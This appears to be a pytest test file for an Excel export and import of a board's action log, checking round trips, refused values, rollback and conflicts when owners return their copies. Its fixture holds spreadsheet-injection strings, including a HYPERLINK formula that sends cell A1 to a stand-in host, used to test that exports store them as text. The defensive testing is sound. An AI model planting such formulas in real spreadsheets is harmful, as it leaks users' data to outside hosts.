"""The action log in Excel: export → edit → import brings back exactly the edits, refuses by cell,
writes all or nothing, and merges owners' returns without overwriting what changed since."""

from __future__ import annotations

import zipfile
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from log_fixtures import MadeMeeting, add_meeting, add_owner
from sqlalchemy import func, select

from improvement_desk.db.models import AuditEntry
from improvement_desk.domain.action_log import LogActionDraft, LogStatus, LogUpdateDraft
from improvement_desk.domain.errors import Conflict, NotFound, ValidationError
from improvement_desk.interchange.log_columns import LOG_EXPORT_COLUMNS, LOG_IMPORT_COLUMNS
from improvement_desk.interchange.log_values import parse_log_status
from improvement_desk.services.desk import Desk
from improvement_desk.services.import_outcomes import RowKind
from improvement_desk.services.log_import import LogImportPreview
from improvement_desk.services.log_records import LogActionRecord
from improvement_desk.services.log_rows import IMPORT_REASON, RETURN_REASON

HEADER_ROW = 4
SHEET = "Action log"
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
HOSTILE = "=1+1 @SUM(A1) <b>bold</b> R&D"
HOSTILE_UPDATE = '=HYPERLINK("http://x/?d="&A1,"Click")'


@dataclass
class Log:
    desk: Desk
    january: MadeMeeting
    march: MadeMeeting
    jo: int
    sam: int
    ids: dict[str, int]

    def action(self, reference: str) -> LogActionRecord:
        return self.desk.log.action(self.ids[reference])


@pytest.fixture
def log(desk: Desk) -> Log:
    """Two meetings, two owners and four actions: A1 overdue, A2 hostile text, A3 complete,
    A4 due later; A1 has an update and a revised date already."""
    january = add_meeting(desk, date(2014, 1, 15))
    march = add_meeting(desk, date(2014, 3, 12))
    jo = add_owner(desk, "Jo Bloggs")
    sam = add_owner(desk, "Sam Patel", "Head of Safeguarding")
    service = desk.action_log
    a1 = service.add(
        january.id,
        january.item(4),
        LogActionDraft("Recruit two social workers", jo, date(2014, 2, 28)),
    )
    a2 = service.add(january.id, None, LogActionDraft(HOSTILE, sam, date(2014, 4, 30)))
    a3 = service.add(
        march.id, march.item(3), LogActionDraft("Report caseloads", jo, date(2014, 3, 20))
    )
    a4 = service.add(march.id, None, LogActionDraft("Audit twenty files", sam, date(2014, 5, 30)))
    ids = {r.summary.reference: r.summary.id for r in (a1, a2, a3, a4)}
    service.add_update(ids["A1"], LogUpdateDraft(date(2014, 3, 1), "One post filled"))
    service.add_update(ids["A2"], LogUpdateDraft(date(2014, 3, 1), HOSTILE_UPDATE))
    service.set_status(ids["A3"], LogStatus.COMPLETE, expected_version=None)
    return Log(desk, january, march, jo, sam, ids)


# -- helpers ----------------------------------------------------------------------------------


def export(log: Log, path: Path) -> Path:
    log.desk.log_exports.export(path, board_name="Test Improvement Board")
    return path


def columns_of(sheet: Any) -> dict[str, int]:
    by_header = {spec.header: spec.field for spec in LOG_IMPORT_COLUMNS}
    return {by_header[str(c.value)]: c.column for c in sheet[HEADER_ROW] if c.value in by_header}


def row_of(sheet: Any, reference: str) -> int:
    col = columns_of(sheet)["reference"]
    for row in range(HEADER_ROW + 1, sheet.max_row + 1):
        if sheet.cell(row, col).value == reference:
            return row
    raise AssertionError(f"{reference} not exported")


def edit(
    path: Path, edits: dict[tuple[str, str], object], new: tuple[dict[str, object], ...] = ()
) -> Path:
    book = openpyxl.load_workbook(path)
    sheet = book.worksheets[0]
    cols = columns_of(sheet)
    for (reference, field), value in edits.items():
        sheet.cell(row_of(sheet, reference), cols[field]).value = value
    for values in new:
        row = sheet.max_row + 1
        for field, value in values.items():
            sheet.cell(row, cols[field]).value = value
    book.save(path)
    return path


def own_sheet(tmp_path: Path, *rows: list[object], name: str = "log.xlsx") -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Actions"
    for row in rows:
        sheet.append(row)
    path = tmp_path / name
    book.save(path)
    return path


def audit_count(desk: Desk) -> int:
    with desk.ctx.db.reading() as session:
        return session.scalar(select(func.count(AuditEntry.id))) or 0


def by_reference(preview: LogImportPreview) -> dict[str, Any]:
    return {o.reference: o for o in preview.outcomes}


def reasons(preview: LogImportPreview) -> list[str]:
    return [str(p) for p in preview.refused]


# -- export -----------------------------------------------------------------------------------


def test_export_is_a_working_sheet(log: Log, tmp_path: Path) -> None:
    path = export(log, tmp_path / "log.xlsx")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == [SHEET, "Notes"]
    sheet = book[SHEET]
    assert [c.value for c in sheet[HEADER_ROW]] == [
        "Ref", "Meeting", "Agenda item", "Action", "Owner", "Original due date", "Due date",
        "Reason for new date", "Status", "Latest update", "Date closed", "Record key",
    ]  # fmt: skip
    assert sheet["A4"].font.bold
    assert sheet["A4"].fill.start_color.rgb == "FF1F3A5F"
    assert sheet.freeze_panes == "B5"  # header and reference stay in view
    assert sheet.auto_filter.ref == "A4:L8"
    assert sheet.column_dimensions["L"].hidden  # the record key
    assert sheet.column_dimensions["D"].width == 50
    cols = columns_of(sheet)
    a1 = row_of(sheet, "A1")
    assert sheet.cell(a1, cols["meeting_date"]).value.date() == date(2014, 1, 15)
    assert sheet.cell(a1, cols["due"]).number_format == "dd mmm yyyy"
    assert sheet.cell(a1, cols["item"]).value == "4. Workforce"
    assert sheet.cell(a1, cols["owner"]).value == "Jo Bloggs"
    assert sheet.cell(a1, cols["update"]).value == "One post filled"
    assert sheet.cell(row_of(sheet, "A3"), cols["status"]).value == "Complete"
    [status_list] = sheet.data_validations.dataValidation
    assert str(status_list.sqref) == "I5:I8"
    assert status_list.formula1 == '"Open,In progress,Complete,Closed by the board"'
    rules = {str(cf.sqref): [r.formula for r in cf.rules] for cf in sheet.conditional_formatting}
    overdue = ['AND(OR($I5="Open",$I5="In progress"),ISNUMBER($G5),$G5<DATE(2014,3,31))']
    assert rules == {"A5:A8": [overdue], "G5:G8": [overdue], "I5:I8": [overdue]}
    notes = book["Notes"]
    text = "\n".join(str(c.value) for row in notes.iter_rows() for c in row if c.value)
    assert "before 31 March 2014 (the date of this copy) is shown in red" in text
    assert "Revised in owner return" in text
    editable = {
        notes.cell(r, 1).value: notes.cell(r, 2).value
        for r in range(1, notes.max_row + 1)
        if notes.cell(r, 2).value in ("Yes", "No")
    }
    assert [h for h, yes in editable.items() if yes == "Yes"] == [
        "Due date", "Reason for new date", "Status", "Latest update",
    ]  # fmt: skip
    assert editable["Action"] == "No"


def test_hostile_text_is_written_as_text_and_comes_back_unchanged(log: Log, tmp_path: Path) -> None:
    path = export(log, tmp_path / "log.xlsx")
    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml
    assert b"<f " not in xml
    sheet = openpyxl.load_workbook(path)[SHEET]
    cols = columns_of(sheet)
    a2 = row_of(sheet, "A2")
    for field, text in (("description", HOSTILE), ("update", HOSTILE_UPDATE)):
        cell = sheet.cell(a2, cols[field])
        assert cell.data_type == "s"
        assert cell.value == text
    preview = log.desk.log_imports.preview(path)
    assert preview.count(RowKind.UNCHANGED) == 4
    assert preview.refused == []
    assert preview.all_warnings() == []


# -- import: our own copy ---------------------------------------------------------------------


def test_round_trip_changes_nothing(log: Log, tmp_path: Path) -> None:
    path = export(log, tmp_path / "log.xlsx")
    before = log.desk.log.actions()
    audits = audit_count(log.desk)
    preview = log.desk.log_imports.preview(path)
    assert preview.mapping == {
        "key": "L", "reference": "A", "meeting_date": "B", "item": "C", "description": "D",
        "owner": "E", "original_due": "F", "due": "G", "revision_reason": "H", "status": "I",
        "update": "J", "closed_on": "K",
    }  # fmt: skip
    assert (preview.count(RowKind.UNCHANGED), len(preview.outcomes)) == (4, 4)
    result = log.desk.log_imports.apply(preview)
    assert (result.added, result.updated, result.unchanged) == (0, 0, 4)
    assert log.desk.log.actions() == before
    assert audit_count(log.desk) == audits


def test_edits_become_changes(log: Log, tmp_path: Path) -> None:
    path = edit(
        export(log, tmp_path / "log.xlsx"),
        {
            ("A1", "due"): date(2014, 4, 30),
            ("A1", "revision_reason"): "Second post re-advertised",
            ("A1", "status"): "In progress",
            ("A1", "update"): "Interviews on 4 April",
            ("A2", "due"): "31/05/2014",  # typed as text
            ("A4", "status"): "Completed",
            ("A4", "description"): "Audit twenty case files",
            ("A4", "owner"): "jo  bloggs",  # as the board spells it, whatever the case
        },
    )
    preview = log.desk.log_imports.preview(path)
    outcomes = by_reference(preview)
    assert {r: o.kind for r, o in outcomes.items()} == {
        "A1": RowKind.CHANGED,
        "A2": RowKind.CHANGED,
        "A3": RowKind.UNCHANGED,
        "A4": RowKind.CHANGED,
    }
    assert [(c.label, c.old, c.new) for c in outcomes["A1"].changes] == [
        ("Due date", "28 Feb 2014", "30 Apr 2014 (Second post re-advertised)"),
        ("Status", "Open", "In progress"),
        ("New update", "", "Interviews on 4 April"),
    ]
    assert [c.label for c in outcomes["A4"].changes] == ["Action", "Owner", "Status"]
    assert (preview.revisions, preview.updates) == (2, 1)

    result = log.desk.log_imports.apply(preview)
    assert (result.updated, result.revisions, result.updates, result.status_changes) == (3, 2, 1, 2)
    a1 = log.action("A1")
    assert (a1.summary.original_due, a1.summary.current_due) == (
        date(2014, 2, 28),
        date(2014, 4, 30),
    )
    assert a1.revisions[-1].reason == "Second post re-advertised"
    assert a1.revisions[-1].recorded_on == date(2014, 3, 31)
    assert a1.summary.status is LogStatus.IN_PROGRESS
    assert [u.text for u in a1.updates] == ["One post filled", "Interviews on 4 April"]
    assert a1.updates[-1].update_date == date(2014, 3, 31)
    a2 = log.action("A2")
    assert a2.revisions[-1].reason == RETURN_REASON  # no reason given in the sheet
    a4 = log.action("A4").summary
    assert (a4.description, a4.owner_name, a4.status) == (
        "Audit twenty case files",
        "Jo Bloggs",
        LogStatus.COMPLETE,
    )
    again = log.desk.log_imports.preview(export(log, tmp_path / "again.xlsx"))
    assert again.count(RowKind.UNCHANGED) == 4


def test_bad_values_are_refused_naming_the_sheet_row_and_column(log: Log, tmp_path: Path) -> None:
    path = edit(
        export(log, tmp_path / "log.xlsx"),
        {
            ("A1", "due"): "31/02/2014",
            ("A2", "owner"): "Nobody Known",
            ("A3", "status"): "Maybe",
            ("A4", "due"): "soon",
        },
    )
    preview = log.desk.log_imports.preview(path)
    assert preview.count(RowKind.REFUSED) == 4
    assert reasons(preview) == [
        "Action log!G5: '31/02/2014' is an impossible date",
        "Action log!E6: 'Nobody Known' is not on the board's list of people; add them first",
        "Action log!I7: 'Maybe' is not a status: use Open, In progress, Complete or Closed",
        "Action log!G8: 'soon' is not a date",
    ]


def test_a_refused_row_stops_the_whole_import_and_nothing_is_half_written(
    log: Log, tmp_path: Path
) -> None:
    path = edit(
        export(log, tmp_path / "log.xlsx"),
        {("A1", "status"): "Complete", ("A2", "due"): "32/13/2014"},
        (
            {
                "meeting_date": date(2014, 3, 12),
                "description": "Brief the lead member",
                "owner": "Sam Patel",
                "due": date(2014, 4, 15),
            },
        ),
    )
    before = log.desk.log.actions()
    audits = audit_count(log.desk)
    preview = log.desk.log_imports.preview(path)
    assert (preview.count(RowKind.CHANGED), preview.count(RowKind.NEW)) == (1, 1)
    with pytest.raises(ValidationError, match=r"1 row\(s\) were refused .*Action log!G6"):
        log.desk.log_imports.apply(preview)
    assert log.desk.log.actions() == before
    assert audit_count(log.desk) == audits

    result = log.desk.log_imports.apply(preview, skip_refused=True)
    assert (result.added, result.updated, result.refused) == (1, 1, 1)
    assert log.action("A1").summary.status is LogStatus.COMPLETE
    assert log.desk.log.action(log.desk.log.actions()[-1].id).summary.reference == "A5"


def test_a_failure_half_way_through_the_apply_undoes_the_rows_before_it(
    log: Log, tmp_path: Path
) -> None:
    path = own_sheet(
        tmp_path,
        ["Action no.", "Date raised", "Action required", "Who?", "Deadline"],
        ["B1", "12/03/2014", "Draft the workforce strategy", "Jo Bloggs", "30/04/2014"],
        ["B2", "12/03/2014", "Tell the partnership", "Temp Person", "30/04/2014"],
    )
    temp = add_owner(log.desk, "Temp Person")
    preview = log.desk.log_imports.preview(path)
    assert preview.count(RowKind.NEW) == 2
    log.desk.people.remove(temp)  # gone between the preview and the apply
    before = log.desk.log.actions()
    with pytest.raises(ValidationError, match=r"Actions row 3: .*Owner.*nothing was imported"):
        log.desk.log_imports.apply(preview)
    assert log.desk.log.actions() == before  # B1 was written first, and rolled back


def test_a_reference_taken_after_the_preview_stops_the_import(log: Log, tmp_path: Path) -> None:
    path = own_sheet(
        tmp_path,
        ["Ref", "Meeting", "Action", "Owner", "Due"],
        ["A9", date(2014, 3, 12), "Typed in Excel", "Jo Bloggs", date(2014, 4, 30)],
    )
    preview = log.desk.log_imports.preview(path)
    log.desk.action_log.add(
        log.march.id,
        None,
        LogActionDraft("Typed in the app", log.sam, date(2014, 4, 1)),
        reference="A9",
    )
    before = log.desk.log.actions()
    with pytest.raises(Conflict, match="A9 was added to the log after the preview"):
        log.desk.log_imports.apply(preview)
    assert log.desk.log.actions() == before


# -- import: logs kept elsewhere --------------------------------------------------------------


def test_a_log_kept_in_excel_is_read_by_its_own_headings(log: Log, tmp_path: Path) -> None:
    path = own_sheet(
        tmp_path,
        [
            "Action no.",
            "Date raised",
            "Item",
            "Action required",
            "Lead",
            "Due date",
            "Revised date",
            "Reason",
            "Status",
            "Progress",
        ],
        [
            "B1",
            "12/03/2014",
            "4",
            "Draft the workforce strategy",
            "Jo Bloggs (DCS)",
            "31/03/2014",
            "30/04/2014",
            "Waiting for HR",
            "Ongoing",
            "First draft written",
        ],
        [
            "B2",
            date(2014, 3, 12),
            "",
            "Tell the partnership",
            "Sam Patel/Jo Bloggs",
            date(2014, 4, 30),
            None,
            None,
            "",
            None,
        ],
    )
    preview = log.desk.log_imports.preview(path)
    assert preview.mapping == {
        "reference": "A", "meeting_date": "B", "item": "C", "description": "D", "owner": "E",
        "due": "F", "revised_due": "G", "revision_reason": "H", "status": "I", "update": "J",
    }  # fmt: skip
    assert preview.count(RowKind.NEW) == 2
    assert preview.refused == []
    warnings = [str(w) for w in preview.all_warnings()]
    assert warnings == [
        "Actions!E3: 'Sam Patel' is taken as the owner ('Jo Bloggs' read as a role or second owner)"
    ]
    log.desk.log_imports.apply(preview)
    new = {a.reference: a for a in log.desk.log.actions()}
    b1 = log.desk.log.action(new["B1"].id)
    assert (b1.summary.meeting_id, b1.summary.item_number) == (log.march.id, "4")
    assert (b1.summary.original_due, b1.summary.current_due) == (
        date(2014, 3, 31),
        date(2014, 4, 30),
    )
    assert b1.revisions[0].reason == "Waiting for HR"
    assert b1.summary.status is LogStatus.IN_PROGRESS
    assert [u.text for u in b1.updates] == ["First draft written"]
    b2 = new["B2"]
    assert (b2.owner_name, b2.status, b2.item_id, b2.revision_count) == (
        "Sam Patel",
        LogStatus.OPEN,
        None,
        0,
    )


def test_new_rows_need_a_meeting_on_the_board(log: Log, tmp_path: Path) -> None:
    path = own_sheet(
        tmp_path,
        ["Action", "Owner", "Due", "Meeting"],
        ["Held that day", "Jo Bloggs", "30/04/2014", "15/01/2014"],
        ["No meeting that day", "Jo Bloggs", "30/04/2014", "16/01/2014"],
        ["No meeting given", "Jo Bloggs", "30/04/2014", None],
        ["Due before the meeting", "Jo Bloggs", "01/01/2014", "15/01/2014"],
    )
    preview = log.desk.log_imports.preview(path)
    assert [o.kind for o in preview.outcomes] == [RowKind.NEW] + [RowKind.REFUSED] * 3
    assert reasons(preview) == [
        "Actions!D3: no meeting on the board was held on 16 Jan 2014: add the meeting first, "
        "or choose a meeting for the import",
        "Actions!D4: a new action needs the date of the meeting that agreed it, or choose a "
        "meeting for the import",
        "Actions!C5: 01 Jan 2014 is before the meeting that agreed it (15 Jan 2014)",
    ]
    assert preview.outcomes[0].new is not None
    assert preview.outcomes[0].new.meeting_id == log.january.id
    assert preview.outcomes[0].reference == "A5"  # numbered after the log's last

    chosen = log.desk.log_imports.preview(path, default_meeting_id=log.march.id)
    assert [o.kind for o in chosen.outcomes] == [RowKind.NEW] * 3 + [RowKind.REFUSED]
    meetings = [o.new.meeting_id for o in chosen.outcomes[:3] if o.new is not None]
    assert meetings == [log.january.id, log.march.id, log.march.id]
    assert [str(w) for w in chosen.outcomes[1].warnings] == [
        "Actions!D3: no meeting on the board on 16 Jan 2014; attached to "
        "Improvement Board, 12 Mar 2014"
    ]
    with pytest.raises(NotFound):
        log.desk.log_imports.preview(path, default_meeting_id=999)


def test_only_a_meeting_closes_an_action_and_a_closed_one_stays_closed(
    log: Log, tmp_path: Path
) -> None:
    path = edit(
        export(log, tmp_path / "log.xlsx"),
        {
            ("A1", "status"): "Closed",  # no date closed
            ("A3", "status"): "Closed",
            ("A3", "closed_on"): date(2014, 3, 12),
        },
    )
    preview = log.desk.log_imports.preview(path)
    assert reasons(preview) == [
        "Action log!I5: only the board closes an action, at a meeting, and there is no meeting "
        "named in 'Date closed': mark it Complete, and close it at the meeting"
    ]
    a3 = by_reference(preview)["A3"]
    assert [(c.old, c.new) for c in a3.changes] == [
        ("Complete", "Closed by the board at Improvement Board, 12 Mar 2014")
    ]
    log.desk.log_imports.apply(preview, skip_refused=True)
    closed = log.action("A3").summary
    assert (closed.status, closed.closed_at_meeting_id, closed.closed_on) == (
        LogStatus.CLOSED,
        log.march.id,
        date(2014, 3, 12),
    )
    reopened = log.desk.log_imports.preview(
        edit(export(log, tmp_path / "again.xlsx"), {("A3", "status"): "Open"})
    )
    assert reasons(reopened) == [
        "Action log!I7: the board has closed this action; a workbook cannot make it Open "
        "(reopen it in the app if the board agreed to)"
    ]


def test_repeated_references_and_foreign_keys(log: Log, tmp_path: Path) -> None:
    path = own_sheet(
        tmp_path,
        ["Ref", "Meeting", "Action", "Owner", "Due", "Record key"],
        ["C1", date(2014, 3, 12), "First", "Jo Bloggs", date(2014, 4, 30), "0000abcd:1:1"],
        ["C1", date(2014, 3, 12), "Again", "Jo Bloggs", date(2014, 4, 30), None],
    )
    preview = log.desk.log_imports.preview(path)
    assert [o.kind for o in preview.outcomes] == [RowKind.NEW, RowKind.REFUSED]
    assert reasons(preview) == ["Actions!A3: C1 appears twice (first in row 2)"]
    assert [str(w) for w in preview.all_warnings()] == [
        "Actions!F2: this copy was made from another board; rows are matched by reference"
    ]


def test_an_action_and_decision_log_keeps_only_its_actions(log: Log, tmp_path: Path) -> None:
    path = own_sheet(
        tmp_path,
        ["ID", "Type", "Item / Description", "Owner(s)", "Date Raised", "Due Date", "Status"],
        ["A-001", "Action Item", "Chase the data", "Jo Bloggs", "12/03/2014", "30/04/2014", "Open"],
        ["D-001", "Decision", "Adopt the model", "Sam Patel", "12/03/2014", None, "Decided"],
        [None, None, None, None, "12/03/2014", None, None],
    )
    preview = log.desk.log_imports.preview(path)
    assert [o.reference for o in preview.outcomes] == ["A-001"]
    assert [str(s) for s in preview.skipped] == [
        "Actions row 3: a 'Decision' entry, not an action",
        "Actions row 4: no action and no owner, so not read as an action: '12/03/2014'",
    ]


# -- owner returns ----------------------------------------------------------------------------


def test_owner_workbooks_hold_each_owners_open_actions(log: Log, tmp_path: Path) -> None:
    made = log.desk.log_exports.export_per_owner(tmp_path / "out", board_name="Test Board")
    assert [(m.lead_officer, m.actions) for m in made] == [("Jo Bloggs", 1), ("Sam Patel", 2)]
    assert made[0].path.name == "Test Board - Jo Bloggs - action log for update 2014-03-31.xlsx"
    book = openpyxl.load_workbook(made[1].path)
    sheet = book.worksheets[0]
    assert sheet.title == "Your actions"
    assert sheet.protection.sheet
    cols = columns_of(sheet)
    refs = [
        sheet.cell(r, cols["reference"]).value for r in range(HEADER_ROW + 1, sheet.max_row + 1)
    ]
    assert refs == ["A2", "A4"]  # A3 is complete: awaiting the board, not the owner
    first = HEADER_ROW + 1
    editable = {f for f, c in cols.items() if not sheet.cell(first, c).protection.locked}
    assert editable == {"due", "revision_reason", "status", "update"}
    [status_list] = sheet.data_validations.dataValidation
    assert status_list.formula1 == '"Open,In progress,Complete"'


def test_owner_returns_merge_and_show_conflicts_without_overwriting(
    log: Log, tmp_path: Path
) -> None:
    made = log.desk.log_exports.export_per_owner(tmp_path / "out", board_name="Test Board")
    sams = edit(
        made[1].path,
        {
            ("A2", "status"): "In progress",
            ("A2", "update"): "Half the files read",
            ("A4", "due"): date(2014, 6, 30),
            ("A4", "status"): "In progress",
        },
    )
    # Meanwhile A4 is re-dated in the app: Sam's copy of it is out of date.
    a4 = log.action("A4").summary
    log.desk.action_log.set_status(a4.id, LogStatus.IN_PROGRESS, expected_version=a4.version)
    preview = log.desk.log_imports.preview(sams)
    outcomes = by_reference(preview)
    assert (outcomes["A2"].kind, outcomes["A4"].kind) == (RowKind.CHANGED, RowKind.CONFLICT)
    assert reasons(preview) == [
        "Your actions!L6: A4 was changed in the log since this copy was made (version 1 then, "
        "2 now); nothing of this row was applied. Export a fresh copy to update it."
    ]
    assert [(c.label, c.new) for c in outcomes["A4"].changes] == [
        ("Due date", f"30 Jun 2014 ({RETURN_REASON})")
    ]
    log.desk.log_imports.apply(preview, skip_refused=True)
    a2 = log.action("A2")
    assert a2.summary.status is LogStatus.IN_PROGRESS
    assert a2.updates[-1].text == "Half the files read"
    assert log.action("A4").summary.current_due == date(2014, 5, 30)  # not overwritten

    jos = edit(made[0].path, {("A1", "due"): date(2014, 5, 31)})
    preview = log.desk.log_imports.preview(jos)
    log.desk.log_imports.apply(preview)
    a1 = log.action("A1")
    assert (a1.summary.original_due, a1.summary.current_due) == (
        date(2014, 2, 28),
        date(2014, 5, 31),
    )
    assert a1.revisions[-1].reason == RETURN_REASON


# -- status words -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("written", "status"),
    [
        ("Open", LogStatus.OPEN),
        ("Not started", LogStatus.OPEN),
        ("Agreed Action", LogStatus.OPEN),
        ("In Progress ", LogStatus.IN_PROGRESS),
        ("on-going", LogStatus.IN_PROGRESS),
        ("Completed", LogStatus.COMPLETE),
        ("Done", LogStatus.COMPLETE),
        ("Closed by the board", LogStatus.CLOSED),
        ("closed", LogStatus.CLOSED),
    ],
)
def test_status_words(written: str, status: LogStatus) -> None:
    parsed = parse_log_status(written)
    assert (parsed.value, parsed.error, parsed.warning) == (status, None, None)


def test_status_words_that_are_not_statuses() -> None:
    assert parse_log_status("On hold").value is LogStatus.IN_PROGRESS
    assert (
        parse_log_status("On hold").warning
        == "'On hold' is read as In progress: the action is still open"
    )
    assert parse_log_status("Cancelled").error == (
        "'Cancelled' is not a status a log action can have: only the board closes or drops an "
        "action, at a meeting"
    )
    assert parse_log_status("Maybe").error is not None
    assert parse_log_status("  ").value is None
    assert parse_log_status(None).error is None


def test_export_columns_are_declared_once() -> None:
    assert [c.field for c in LOG_EXPORT_COLUMNS if c.editable] == [
        "due", "revision_reason", "status", "update",
    ]  # fmt: skip
    assert "revised_due" not in {c.field for c in LOG_EXPORT_COLUMNS}
    # Every heading names one field: no synonym is shared by two columns.
    names = [n for c in LOG_IMPORT_COLUMNS for n in {c.header.casefold(), *c.synonyms}]
    assert len(names) == len(set(names))
    assert IMPORT_REASON != RETURN_REASON


def test_a_colour_rule_names_only_columns_the_table_has(tmp_path: Path) -> None:
    from datetime import UTC, datetime

    from improvement_desk.interchange.xlsx_export import CellColour, ExportMeta, export_table

    meta = ExportMeta("Board", "Action log", "OFFICIAL", datetime(2014, 3, 31, tzinfo=UTC), "Me")
    with pytest.raises(ValueError, match="exactly one"):
        CellColour("due", "#C0392B", equals="Open", formula="{due}<1")
    wrong = CellColour("due", "#C0392B", formula="{nowhere}<1")
    with pytest.raises(ValueError, match="names a column the table does not have: 'nowhere'"):
        export_table(tmp_path / "x.xlsx", meta, LOG_EXPORT_COLUMNS, [], colours=[wrong])
    assert not (tmp_path / "x.xlsx").exists()
